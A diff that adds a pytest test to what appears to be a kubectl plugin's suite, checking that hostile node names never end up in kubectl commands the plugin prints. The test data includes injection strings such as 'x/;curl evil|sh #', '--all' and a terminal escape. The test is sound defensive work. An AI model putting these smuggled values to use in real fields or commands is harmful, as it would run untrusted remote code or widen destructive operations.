@@ -9,6 +9,7 @@ import re
 import unicodedata
 from collections.abc import Callable
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 import yaml
@@ -139,6 +140,33 @@ def test_words_of_the_command_line(kubectl_qos: Plugin, pending: str, word: str)
 
     assert ran.code in {2, 3}
     assert_harmless(ran.err)
+
+
+@pytest.mark.parametrize("node", ["x/;curl evil|sh #", "--all", "n1,metadata.namespace=evil", "evil\x1b[2J%\n"])
+def test_name_of_a_node_is_in_no_command(
+    control_plane: ControlPlane, tmp_path: Path, namespace: str, node: str
+) -> None:
+    """``pods/binding`` takes any name. What is asked about that Node is what is asked about one that does not exist."""
+    pod = control_plane.api.create(make_pod(namespace, schedulerName="nobody"))
+    control_plane.bind(pod, node)
+    runtime = tmp_path / "run"
+    runtime.mkdir()
+    for words, code in (
+        (("explain", "pod/web"), 0),
+        (("explain", "pod/web", "--timeline"), 0),
+        (("explain", "pods", "-o", "wide"), 0),
+        (("node", f"node/{node}"), 3),
+        (("died", "pod/web"), 0),
+        (("delete", "pod/web", "--grace-period=0"), 3),
+        (("report",), 0),
+        (("partitions",), 0),
+    ):
+        place = () if words[0] in {"node", "partitions"} else ("-n", namespace)
+        command, *arguments = words
+        ran = Plugin(control_plane, runtime, command=command)(*arguments, *place)
+        assert ran.code == code, (words, ran)
+        assert_harmless(ran.out + ran.err)
+        assert not [text for text in re.findall("kubectl .*", ran.out) if "evil" in text or "--all" in text]
 
 
 def on_a_terminal(kubectl_qos: Plugin, *arguments: str, env: dict[str, str] | None = None) -> tuple[int, str]:
